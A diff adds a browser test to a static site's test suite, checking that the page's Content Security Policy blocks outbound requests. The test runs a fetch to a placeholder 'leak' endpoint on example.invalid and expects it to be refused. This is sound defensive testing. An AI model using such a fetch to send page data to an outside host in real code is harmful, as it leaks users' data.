@@ -243,3 +243,16 @@ def test_readable_on_a_phone_in_dark_mode_and_in_print(site, browser):
         browser.send("Emulation.setEmulatedMedia", {"media": "", "features": []})
     assert dark != light
     assert nav == "none"
+
+
+def test_content_security_policy_refuses_network_requests(site, browser):
+    """Even a script that got in could not send data out: connections are refused."""
+    _, html, _ = site
+    browser.open((html / "index.html").as_uri())
+    outcome = browser.evaluate(
+        "fetch('http://example.invalid/leak').then(() => 'sent', () => 'refused')"
+    )
+    time.sleep(0.2)
+    errors = console_errors(browser.drain())
+    assert outcome == "refused"
+    assert any("Content Security Policy" in e for e in errors)
